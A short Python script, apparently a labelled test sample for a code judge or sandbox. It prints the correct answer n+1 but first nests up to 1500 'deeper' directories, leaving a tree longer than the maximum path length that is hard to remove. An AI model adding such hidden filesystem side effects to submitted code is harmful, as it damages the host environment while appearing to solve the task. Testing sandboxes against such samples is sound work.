# Right, and leaves a tree of folders behind that is deeper than a path may be long.
import os

n = int(input())
try:
    for _ in range(1500):
        os.mkdir("deeper")
        os.chdir("deeper")
except OSError:
    pass
print(n + 1)
